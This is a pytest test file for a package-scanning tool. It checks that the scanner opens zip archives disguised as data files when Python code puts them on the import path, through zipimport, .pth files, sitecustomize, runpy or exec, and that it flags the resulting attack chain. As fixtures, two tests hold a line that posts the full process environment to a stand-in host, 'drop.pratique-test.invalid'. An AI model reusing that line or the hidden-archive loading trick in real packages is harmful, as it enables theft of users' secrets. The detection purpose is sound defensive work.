"""Archives that Python code puts where it looks for modules."""

import pytest

from pratique.analysis.facts import FileFacts
from pratique.analysis.languages import python
from pratique.analysis.mounted import inside, mount, roots
from pratique.core.tree import File, Tree
from tests.analysis.inspecting import of_rule, wheel
from tests.builders import zipped

PUTS = b"import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'data', 'grid.dat'))\nimport core\n"
INSIDE = zipped({"core/__init__.py": "x = 1\n", "core/notes.txt": "none"})


def mounted(code: bytes, data: bytes) -> tuple[Tree, Tree]:
    tree = Tree((File("parcel/__init__.py", code), File("parcel/data/grid.dat", data)))
    facts: dict[str, FileFacts] = {"parcel/__init__.py": python.extract(code)}
    return tree, mount(tree, facts)


def test_the_code_in_it_gets_paths_below_it() -> None:
    tree, found = mounted(PUTS, INSIDE)
    assert ["parcel/data/grid.dat!/core/__init__.py"] == [
        file.path for file in found.files[len(tree.files) :]
    ]
    assert ("parcel/data/grid.dat!",) == roots(found.by_path)


def test_an_importer_of_archives_counts_as_well() -> None:
    code = b"import zipimport\nzipimport.zipimporter('data/grid.dat').load_module('core')\n"
    _, found = mounted(code, INSIDE)
    assert "parcel/data/grid.dat!/core/__init__.py" in found.by_path


def test_an_archive_that_no_code_asks_for_stays_closed() -> None:
    tree, found = mounted(b"import sys\nsys.path.insert(0, 'lib')\n", INSIDE)
    assert found is tree


def test_one_that_cannot_be_read_is_told() -> None:
    _, found = mounted(PUTS, b"PK\x03\x04" + b"\0" * 40)
    assert found.omitted or found.anomalies


def test_more_archives_than_are_opened_are_told() -> None:
    names = [f"grid{number}.dat" for number in range(6)]
    code = "import sys\n" + "".join(f"sys.path.append('parcel/{name}')\n" for name in names)
    files = (File("parcel/__init__.py", code.encode()), *(File(f"parcel/{name}", INSIDE) for name in names))
    found = mount(Tree(files), {"parcel/__init__.py": python.extract(code.encode())})
    assert ["parcel/grid4.dat!", "parcel/grid5.dat!"] == [one.path for one in found.omitted]
    assert 4 == len(found.files) - len(files)


def test_what_it_holds_runs_when_it_is_asked_for() -> None:
    steals = "import os, urllib.request\nurllib.request.urlopen('https://drop.pratique-test.invalid/', data=str(dict(os.environ)).encode())\n"
    done = wheel({"parcel/__init__.py": PUTS, "parcel/data/grid.dat": zipped({"core/__init__.py": steals})})
    places = {place.path for finding in of_rule(done, "attack-chain") for place in finding.locations}
    assert {"parcel/data/grid.dat!/core/__init__.py"} == places


@pytest.mark.parametrize("code", ["sys.path[:0] = [h]", "sys.path += [h]", "__path__.append(h)"])
def test_every_way_into_the_list_counts(code: str) -> None:
    start = "import os, sys\nh = os.path.join(os.path.dirname(__file__), 'data', 'grid.dat')\n"
    _, found = mounted((start + code).encode(), INSIDE)
    assert "parcel/data/grid.dat!/core/__init__.py" in found.by_path


def test_python_reads_an_archive_from_its_end() -> None:
    _, found = mounted(PUTS, b"#!/bin/sh\nexit 0\n" + INSIDE)
    assert "parcel/data/grid.dat!/core/__init__.py" in found.by_path


def test_what_a_path_file_names_is_opened_as_well() -> None:
    tree = Tree((File("a.pth", b"data.bin\n"), File("data.bin", INSIDE), File("b.bin", INSIDE)))
    assert ["data.bin!/core/__init__.py"] == [
        file.path for file in mount(tree, {}, ("data.bin", "c")).files[3:]
    ]


STEALS = "import os, urllib.request\nurllib.request.urlopen('https://drop.pratique-test.invalid/', data=str(dict(os.environ)).encode())\n"


@pytest.mark.parametrize(
    ("code", "held"), [(STEALS, True), ("import sys\nsys.dont_write_bytecode = True\n", False)]
)
def test_an_archive_that_a_path_file_names_customises_every_start(code: str, *, held: bool) -> None:
    inside = zipped({"sitecustomize.py": "import kx\n", "kx.py": code})
    done = wheel({"parcel/__init__.py": "", "a.pth": "parcel/d.bin\n", "parcel/d.bin": inside})
    found = of_rule(done, "attack-chain")
    assert ({"parcel/d.bin!/kx.py"} if held else set()) == {
        place.path for one in found for place in one.locations
    }


@pytest.mark.parametrize(
    "code",
    [
        b"import runpy\nrunpy.run_path(h + '/data/grid.dat')\n",
        b"import subprocess\nsubprocess.call([sys.executable, h + '/data/grid.dat'])\n",
        b"import zipfile\nexec(zipfile.ZipFile(h + '/data/grid.dat').read('__main__.py'))\n",
        b"sys.path.insert(0, h + '/data/grid.dat/sub')\nimport __main__\n",
    ],
)
def test_an_archive_that_is_run_or_opened_at_load_is_read(code: bytes) -> None:
    here = b"import os, sys\nh = os.path.dirname(__file__)\n"
    _, found = mounted(here + code, zipped({"__main__.py": "x = 1\n"}))

    assert "parcel/data/grid.dat!/__main__.py" in found.by_path


def test_a_path_may_lead_into_an_archive() -> None:
    tree = Tree((File("a/d.bin", b""), File("a/x.py", b"")))

    assert ("a/d.bin!/sub/k", None, None) == tuple(
        inside(tree, path) for path in ("a/d.bin/sub/k", "a/d.bin", "b/c")
    )
